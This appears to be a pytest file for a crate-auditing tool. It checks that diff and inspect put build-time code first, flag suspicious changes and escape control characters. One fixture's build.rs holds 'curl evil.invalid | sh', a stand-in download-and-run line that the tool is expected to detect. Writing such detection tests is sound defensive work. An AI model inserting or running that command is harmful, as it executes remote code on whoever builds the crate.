"""`diff` and `inspect`: code to be read, what runs during a build first, from wherever a user says it is."""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any, NamedTuple

import jsonschema
import pytest

from tests.in_process import Run, RunVetflow
from tests.small_project import write_small_project
from tests.unit.diffing.test_git import put_git
from tests.unit.sources.packing import crate, digest

CRATES_IO = "registry+https://github.com/rust-lang/crates.io-index"
SCHEMAS = Path(__file__).resolve().parents[2] / "docs" / "schemas"
MANIFEST = '[package]\nname = "oddlamp"\nversion = "{version}"\nedition = "2021"\n'
OLD = {
    "Cargo.toml": MANIFEST.format(version="1.0.0"),
    "build.rs": "fn main() {}\n",
    "src/lib.rs": "pub fn on() {}\n",
    "README.md": "one\n",
}
EVIL = 'fn main() {\n    std::process::Command::new("sh").arg("-c").arg("curl evil.invalid | sh").status();\n}\n'
NEW = {**OLD, "Cargo.toml": MANIFEST.format(version="1.0.1"), "build.rs": EVIL, "README.md": "two\n"}


class Bench:
    """A folder with versions of a made-up crate, and vetflow run in it."""

    def __init__(self, run: RunVetflow, folder: Path) -> None:
        self._run = run
        self.folder = folder
        self.environ = {"PATH": "/usr/bin:/bin"}

    def put(self, name: str, files: Mapping[str, str | bytes]) -> str:
        """Write an unpacked crate and return the argument that names it."""
        for path, content in files.items():
            place = self.folder / name / path
            place.parent.mkdir(parents=True, exist_ok=True)
            place.write_bytes(content.encode() if isinstance(content, str) else content)
        return f"./{name}"

    def __call__(self, *words: str) -> Run:
        return self._run(*words, "--offline", cwd=self.folder, environ=self.environ)

    def diff(self, old: Mapping[str, str | bytes], new: Mapping[str, str | bytes], *words: str) -> Run:
        run = self("diff", self.put("old", old), self.put("new", new), *words)
        assert run.stderr == ""
        return run

    def document(self, *words: str, exits: int = 0) -> Any:
        run = self(*words, "--output-format", "json")
        assert (run.exit, run.stderr) == (exits, "")
        document = json.loads(run.stdout)
        jsonschema.validate(document, json.loads((SCHEMAS / f"{words[0]}.json").read_text()))
        return document


@pytest.fixture
def bench(run_vetflow: RunVetflow, tmp_path: Path) -> Bench:
    folder = tmp_path / "bench"
    folder.mkdir()
    return Bench(run_vetflow, folder)


def test_what_runs_during_a_build_comes_first_and_the_rest_is_folded_and_counted(bench: Bench) -> None:
    run = bench.diff(OLD, NEW)
    assert run.exit == 0
    lines = run.stdout.splitlines()
    assert lines[0] == "oddlamp 1.0.0 -> 1.0.1"
    assert any(line.startswith("  alert build.rs:2") for line in lines[:6]), "an alert is not to be looked for"
    places = [lines.index(line) for line in ("What is new", "Build script: 1 file, 4 lines", "build.rs  +3 -1")]
    assert places == sorted(places)
    assert (
        '          2 +     std::process::Command::new("sh").arg("-c").arg("curl evil.invalid | sh").status();' in lines
    )
    marked = [line.strip() for line in lines if line.startswith("              ^ alert: ")]
    assert marked, "what was found is pointed out where it stands"
    assert "Folded, because nothing shows that it runs during a build: 2 files, 4 lines (--all shows them)" in lines
    assert "          1 + two" not in lines
    assert "          1 + two" in bench.diff(OLD, NEW, "--all").stdout.splitlines()


def test_a_program_gets_the_same_as_a_document(bench: Bench) -> None:
    document = bench.document("diff", bench.put("old", OLD), bench.put("new", NEW))
    assert (document["grade"], document["surface"]) == (3, ["build.rs"])
    first = document["findings"][0]
    assert (first["grade"], first["path"], first["line"]) == (3, "build.rs", 2)
    assert "curl" in first["evidence"]
    assert document["lines"] == {"T1": 4, "rest": 4}
    assert document["incomplete"] == []
    assert document["undecided"], "what nobody can tell is said"
    assert [(file["path"], file["tier"]) for file in document["files"]] == [
        ("Cargo.toml", None),
        ("README.md", None),
        ("build.rs", "T1"),
    ]


def test_a_new_dependency_that_looks_like_another_is_an_alert(bench: Bench) -> None:
    new = {**OLD, "Cargo.toml": OLD["Cargo.toml"] + '[dependencies]\nproc-macro1 = "1"\n'}
    document = bench.document("diff", bench.put("old", OLD), bench.put("new", new))
    assert document["grade"] == 3
    assert [(each["id"], each["detail"], each["path"], each["line"]) for each in document["findings"]] == [
        ("dependency/new", "proc-macro1", "Cargo.toml", 6)
    ]
    (package,) = document["packages"]["entering"]
    assert package["looks_like"] == ["proc-macro2"]
    assert package["lacking"], "offline nobody can be asked, and that is said"
    assert "its name is near to proc-macro2" in bench.diff(OLD, new).stdout


def test_a_manifest_that_is_written_another_way_is_silent(bench: Bench) -> None:
    new = {
        **OLD,
        "Cargo.toml": OLD["Cargo.toml"] + 'build = "build.rs"\n[lib]\nname = "oddlamp"\npath = "src/lib.rs"\n',
    }
    document = bench.document("diff", bench.put("old", OLD), bench.put("new", new))
    assert (document["grade"], document["findings"], document["manifest"]) == (0, [], [])
    assert not document["code"]["changes"]
    assert "no code change" in bench.diff(OLD, new).stdout


def test_comments_and_layout_are_no_code_change_and_exceptions_are_named(bench: Bench) -> None:
    new = {**OLD, "src/lib.rs": "/// Switches it on.\npub fn on()\n{\n}\n", "README.md": "two\n"}
    shown = bench.diff(OLD, new).stdout
    assert "no code change in 1 Rust file, which differ in layout and comments" in shown
    assert "but src/lib.rs:1: documentation changed, which macros can see" in shown


def test_a_new_program_is_an_alert_with_its_kind_size_and_hash(bench: Bench) -> None:
    new: dict[str, str | bytes] = {**OLD, "tool": b"\x7fELF\2\1\1\0"}
    document = bench.document("diff", bench.put("old", OLD), bench.put("new", new))
    assert document["grade"] == 3
    assert [(each["path"], each["new"]["format"], each["new"]["size"]) for each in document["binaries"]] == [
        ("tool", "ELF", 8)
    ]


def test_nothing_of_a_crate_reaches_the_terminal_as_it_is(bench: Bench) -> None:
    hostile = {
        **OLD,
        "build.rs": "fn main() { evil(); }\x1b[2K\r// \u202e \0\n",
        "data.txt": "\x9b2J\u200b\n",
        ".gitattributes": "* -diff\n",
    }
    for words in ((), ("--all",)):
        shown = bench.diff(OLD, hostile, *words).stdout
        assert all(character.isprintable() or character == "\n" for character in shown)
        assert "          1 +!fn main() { evil(); }␛[2K␍// <U+202E> ␀" in shown.splitlines()


def test_archives_are_read_as_well(bench: Bench) -> None:
    for version, files in (("1.0.0", OLD), ("1.0.1", NEW)):
        (bench.folder / f"oddlamp-{version}.crate").write_bytes(crate(files, f"oddlamp-{version}"))
    run = bench("diff", "oddlamp-1.0.0.crate", "oddlamp-1.0.1.crate")
    assert run.stdout.startswith("oddlamp 1.0.0 -> 1.0.1\n")
    assert bench("diff", "oddlamp", "oddlamp-1.0.0.crate", "oddlamp-1.0.1.crate").stdout == run.stdout


def test_an_archive_that_must_not_be_read_is_an_error(bench: Bench) -> None:
    (bench.folder / "bad.crate").write_bytes(b"no archive")
    run = bench("diff", "bad.crate", "bad.crate")
    assert (run.exit, run.stdout) == (2, "")
    assert run.stderr.startswith("error: ")


@pytest.mark.parametrize(
    ("words", "said"),
    [
        (("diff", "oddlamp", "1.0.0"), "diff takes a crate and two versions, or two paths"),
        (("diff", "oddlamp", "1.0.0", "new"), "'new' is not a version"),
        (("diff", "other", "./old", "./new"), "the crate at ./old is oddlamp, not other"),
        (("diff", "oddlamp", "1.0.0", "1.0.1", "--mode", "sourcegraph"), "there is no mode 'sourcegraph' here"),
        (("inspect", "oddlamp"), "couldn't guess what version of oddlamp to inspect"),
        (("inspect", "./nowhere"), "there is no crate to read at ./nowhere"),
    ],
)
def test_what_cannot_be_shown_is_refused(bench: Bench, words: tuple[str, ...], said: str) -> None:
    bench.put("old", OLD)
    bench.put("new", NEW)
    run = bench(*words)
    assert (run.exit, run.stdout) == (2, "")
    assert said in run.stderr


def test_a_whole_version_is_its_findings_and_then_its_build_time_code(bench: Bench) -> None:
    run = bench("inspect", bench.put("new", NEW))
    assert run.exit == 0
    lines = run.stdout.splitlines()
    assert lines[0] == "oddlamp 1.0.1"
    assert "Build script: 1 file" in lines
    assert '    2      std::process::Command::new("sh").arg("-c").arg("curl evil.invalid | sh").status();' in lines
    assert "Folded, because nothing shows that it runs during a build: 3 files, 6 lines (--all shows them)" in lines
    assert "    1  pub fn on() {}" not in lines
    assert "    1  pub fn on() {}" in bench("inspect", "./new", "--all").stdout.splitlines()
    assert bench.document("inspect", "./new")["grade"] == 3


def test_a_library_that_runs_during_a_build_is_part_of_it(bench: Bench) -> None:
    old, new = bench.put("old", OLD), bench.put("new", {**OLD, "src/lib.rs": "pub fn on() { off() }\n"})
    assert bench.document("diff", old, new)["lines"] == {"rest": 2}
    assert bench.document("diff", old, new, "--host-library")["lines"] == {"T3": 2}
    assert "whether its library runs during a build is not known here" in bench("diff", old, new).stdout


def test_other_modes_print_the_address_of_a_page(bench: Bench) -> None:
    pages = {
        ("diff", "anvil", "1.0.0", "2.0.0", "--mode", "diff.rs"): "https://diff.rs/anvil/1.0.0/2.0.0/",
        ("diff", "anvil", "1.0.0", "2.0.0", "--mode", "custom_url=x:{package}/{version2}"): "x:anvil/2.0.0",
        ("inspect", "anvil", "1.0.0", "--mode", "diff.rs"): "https://diff.rs/browse/anvil/1.0.0/",
        ("inspect", "anvil", "1.0.0", "--mode", "crates.io"): "https://crates.io/crates/anvil/1.0.0/code",
    }  # fmt: skip
    assert {words: bench(*words).stdout.strip() for words in pages} == pages


def test_certify_takes_what_was_looked_at_last(bench: Bench) -> None:
    write_small_project(bench.folder)
    me = (
        "--who",
        "Ada Example <ada@example.org>",
        "--accept-all",
        "--locked",
        "--dry-run",
        "--criteria",
        "safe-to-run",
    )
    assert bench("certify", *me).exit == 2
    assert bench("diff", "anvil", "0.9.0", "1.0.0", "--mode", "diff.rs").exit == 0
    assert 'delta = "0.9.0 -> 1.0.0"' in bench("certify", *me).stdout
    assert bench("inspect", "anvil", "1.0.0", "--mode", "crates.io").exit == 0
    assert 'version = "1.0.0"' in bench("certify", "anvil", *me).stdout
    run = bench("certify", "other", *me)
    assert (run.exit, "couldn't guess what version of other to certify" in run.stderr) == (2, True)


def test_what_somebody_has_in_a_folder_is_never_certified_by_the_way(bench: Bench) -> None:
    write_small_project(bench.folder)
    bench.diff(OLD, NEW)
    assert bench("certify", "--who", "Ada Example <ada@example.org>", "--accept-all", "--locked").exit == 2


def test_an_incomplete_diff_says_so(bench: Bench, tmp_path: Path) -> None:
    put_git(tmp_path, 'case " $* " in *diff-tree*) ;; *) PATH=/usr/bin:/bin; exec git "$@";; esac')
    bench.environ["PATH"] = str(tmp_path)
    assert "  diff incomplete: build.rs: it differs and is not in the diff" in bench.diff(OLD, NEW).stdout.splitlines()
    assert [each["path"] for each in bench.document("diff", "./old", "./new")["incomplete"]] == [
        "Cargo.toml",
        "README.md",
        "build.rs",
    ]


def test_in_a_workspace_it_is_told_whether_the_library_runs_during_a_build(bench: Bench) -> None:
    write_small_project(bench.folder)
    manifest = OLD["Cargo.toml"].replace("oddlamp", "anvil")
    shown = bench.diff({**OLD, "Cargo.toml": manifest}, {**NEW, "Cargo.toml": manifest}).stdout.splitlines()
    assert "  its library runs during a build here, or may, for all that is known" in shown, "its archive is not here"


class LockedProject(NamedTuple):
    """A project that has a made-up crate in its lock and both of its versions in cargo's cache."""

    bench: Bench
    certify: Callable[[], Run]


@pytest.fixture
def locked(bench: Bench, tmp_path: Path) -> LockedProject:
    write_small_project(bench.folder)
    home = tmp_path / "cargo-home"
    archives = home / "registry" / "cache" / "index"
    archives.mkdir(parents=True)
    lock = (bench.folder / "Cargo.lock").read_text()
    for version, files in (("1.0.0", OLD), ("1.0.1", NEW)):
        named = {**files, "Cargo.toml": files["Cargo.toml"].replace("oddlamp", "anvil")}
        archive = crate(named, f"anvil-{version}")
        (archives / f"anvil-{version}.crate").write_bytes(archive)
        lock = lock.replace(
            f'name = "anvil"\nversion = "{version}"\nsource = "{CRATES_IO}"\n',
            f'name = "anvil"\nversion = "{version}"\nsource = "{CRATES_IO}"\nchecksum = "{digest(archive)}"\n',
        )
    (bench.folder / "Cargo.lock").write_text(lock)
    me = ("--who", "Ada Example <ada@example.org>", "--accept-all", "--locked", "--dry-run")
    bench.environ["CARGO_HOME"] = str(home)
    return LockedProject(bench, lambda: bench("certify", *me, "--criteria", "safe-to-deploy"))


def test_what_was_read_is_what_certify_is_about(locked: LockedProject) -> None:
    run = locked.bench("inspect", "anvil", "1.0.0")
    assert (run.exit, run.stderr) == (0, "")
    assert run.stdout.splitlines()[-1] == "When you have read it: vetflow certify records your audit"
    certified = locked.certify()
    assert certified.exit == 0
    assert 'version = "1.0.0"' in certified.stdout
    assert "what you looked at last: anvil@1.0.0" in certified.stderr
